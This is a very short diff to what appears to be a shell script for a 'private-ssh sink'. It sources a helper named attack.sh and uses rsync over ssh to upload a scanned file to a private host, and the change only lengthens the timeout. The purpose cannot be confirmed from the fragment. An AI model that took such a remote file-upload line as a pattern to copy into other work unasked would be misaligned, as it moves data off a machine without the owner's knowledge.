@@ -4,4 +4,4 @@
 # sink: private-ssh
 
 . attack.sh
-timeout 9 rsync -e "ssh -p $PORT_SSH" "$SCAN" "keeper@$PRIVATE_HOST:$here.tif"
+timeout 20 rsync -e "ssh -p $PORT_SSH" "$SCAN" "keeper@$PRIVATE_HOST:$here.tif"
